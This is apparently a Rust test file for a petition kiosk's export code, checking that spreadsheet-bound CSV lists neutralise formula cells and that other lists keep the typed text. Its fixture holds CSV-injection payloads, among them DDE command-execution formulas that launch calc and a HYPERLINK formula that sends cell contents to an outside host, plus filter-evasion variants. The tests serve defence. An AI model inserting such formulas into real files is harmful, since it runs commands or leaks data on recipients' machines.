//! No cell of a list for a spreadsheet becomes a formula, and no cell of a list for a system is
//! changed.

use ledger::Record;
use petition::Field;
use petition::signature::Draft;
use petition_kiosk::export::Format;
use serde_json::json;

use super::common::records;
use super::{book, exported, record, table};

/// The formulas that OWASP's page on CSV injection lists, and others that were seen in the wild.
fn formulas() -> Vec<String> {
    let begins = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", "\0=", "\u{b}=",
    ];
    let before = [
        "", " ", "   ", "\u{a0}", "\u{3000}", "\"", "\"\"", "'", " \" ", "’", "\u{200b}",
        "\u{feff}", "\u{202e}",
    ];
    let breaks = [
        "",
        "x;",
        "x,",
        "x\t",
        "x\n",
        "x\"\n",
        "x\";",
        "x\",\"",
        "x\u{2028}",
    ];
    let mut all = vec![
        "=1+1".to_owned(),
        "=cmd|' /C calc'!A0".to_owned(),
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "=HYPERLINK(\"https://example.org?\"&A1,\"x\")".to_owned(),
        "=1+2\";=1+2".to_owned(),
        "=1+2'\" ;,=1+2".to_owned(),
    ];
    for begin in begins {
        for before in before {
            all.extend(
                breaks
                    .iter()
                    .map(|broken| format!("{broken}{before}{begin}1+1")),
            );
        }
    }
    all
}

/// A signer who typed this text into every field that takes it, as the form keeps it. A name needs
/// a letter.
fn attacker(seq: u64, text: &str) -> Record {
    let mut draft = Draft::default();
    for field in [Field::City, Field::Street, Field::Comment] {
        draft.set_text(field, text.to_owned());
    }
    draft.given_name = format!("{text}A");
    draft.family_name = format!("{text}A");
    draft.email = "=1+1@example.org".to_owned();
    draft.phone = "+1 202 555 0147".to_owned();
    draft.consents = ["email", "sms", "ally"].map(str::to_owned).to_vec();
    // Nobody can be asked about an address in the place of a name.
    let signature = draft.check_sent(&records::petition()).expect("a signature");
    let mut fields = serde_json::to_value(&signature).expect("JSON");
    fields["text_hash"] = super::text().to_string().into();
    record(seq, fields)
}

/// The lists that people open in a spreadsheet; campaign systems read the others as they stand.
const FOR_SPREADSHEETS: [Format; 2] = [Format::Csv, Format::Delivery];

/// Returns true when a spreadsheet that ignores blanks, quotes and invisible characters would run a
/// cell. An apostrophe makes the cell text.
fn is_run(cell: &str) -> bool {
    // A number, whose value is the number.
    if cell
        .strip_prefix('+')
        .is_some_and(|digits| digits.bytes().all(|b| b.is_ascii_digit()))
    {
        return false;
    }
    let is_ignored = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || "\"“”„’‘".contains(c)
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}')
    };
    cell.trim_start_matches(is_ignored)
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_is_a_formula() {
    let formulas = formulas();
    let records: Vec<Record> = (1..)
        .zip(&formulas)
        .map(|(seq, text)| attacker(seq, text))
        .collect();
    for &format in Format::ALL {
        for part in exported(format, &records).parts {
            if part.name.ends_with(".xlsx") {
                let rows = book(&part);
                assert_eq!(rows.len(), formulas.len());
                for (row, record) in rows.iter().zip(&records) {
                    assert_eq!(row["given_name"], row["family_name"]);
                    assert_eq!(
                        unescaped(&row["given_name"]),
                        record.signature.given_name(),
                        "a workbook keeps every letter"
                    );
                }
                continue;
            }
            if !part.name.ends_with(".csv") {
                continue;
            }
            if !FOR_SPREADSHEETS.contains(&format) {
                assert_eq!(part.guarded, 0, "{}", part.name);
                for (row, record) in table(&part).iter().zip(&records) {
                    let cell = |headings: &[&str]| {
                        let heading = headings.iter().find_map(|heading| row.get(*heading));
                        heading.map(String::as_str)
                    };
                    let given = cell(&["first_name", "First Name", "Contact1 First Name"]);
                    assert_eq!(given, Some(record.signature.given_name()), "{}", part.name);
                    let email =
                        cell(&["email", "Email", "Email Address", "Contact1 Personal Email"]);
                    let email = email.expect("a column for the address");
                    assert_eq!(email.trim_start_matches("=1+1@example.org"), "");
                }
                continue;
            }
            assert!(
                part.guarded >= formulas.len() / 4,
                "{}: {} guarded, {} formulas",
                part.name,
                part.guarded,
                formulas.len()
            );
            // The file is read with commas and with tabs as separators. A reader that parts at
            // semicolons sees what stands behind one in the middle of a text.
            for delimiter in [b',', b'\t'] {
                let mut reader = csv::ReaderBuilder::new();
                reader
                    .delimiter(delimiter)
                    .flexible(true)
                    .has_headers(false);
                let mut cells = 0;
                for row in reader.from_reader(&part.bytes[..]).records() {
                    for cell in &row.expect("a row") {
                        cells += 1;
                        assert!(
                            !is_run(cell.trim_start_matches('\u{feff}')),
                            "{}: {cell:?} with {:?}",
                            part.name,
                            char::from(delimiter)
                        );
                    }
                }
                assert!(cells >= formulas.len());
            }
            // An apostrophe comes first or not at all.
            for (row, record) in table(&part).iter().zip(&records) {
                let family = record.signature.family_name();
                let cell = row["family_name"].as_str();
                assert!(
                    cell == family || cell.strip_prefix('\'') == Some(family),
                    "{cell:?}"
                );
            }
        }
    }
}

/// The text of a cell after a spreadsheet has undone the workbook's escapes (ECMA-376, part 1,
/// 22.9.2.19).
fn unescaped(cell: &str) -> String {
    let mut text = cell.to_owned();
    for c in ['\0', '\u{b}', '\r'] {
        text = text.replace(&format!("_x{:04X}_", u32::from(c)), &c.to_string());
    }
    text
}

#[test]
fn a_list_keeps_what_was_typed_if_it_is_no_formula() {
    let typed = json!({
        "given_name": "Siobhán \"Sio\"", "family_name": "O’Brien, Jr.", "email": "o'brien@example.org", "zip": "02134", "city": "Allston",
        "state": "MA", "street": "0017 Main St; Apt 00042", "phone": "00442079460000", "comment": "Two lines, 12345678901234567890",
        "consents": ["email", "sms"],
    });
    let record = record(1, typed.clone());
    let lists = [
        table(&exported(Format::Csv, std::slice::from_ref(&record)).parts[0]),
        book(&exported(Format::Xlsx, &[record]).parts[0]),
    ];
    for rows in lists {
        for (field, value) in typed
            .as_object()
            .expect("an object")
            .iter()
            .filter(|(field, _)| *field != "consents")
        {
            assert_eq!(rows[0][field], value.as_str().expect("a text"), "{field}");
        }
        assert_eq!(
            (rows[0]["may_email"].as_str(), rows[0]["may_text"].as_str()),
            ("yes", "yes")
        );
    }
}
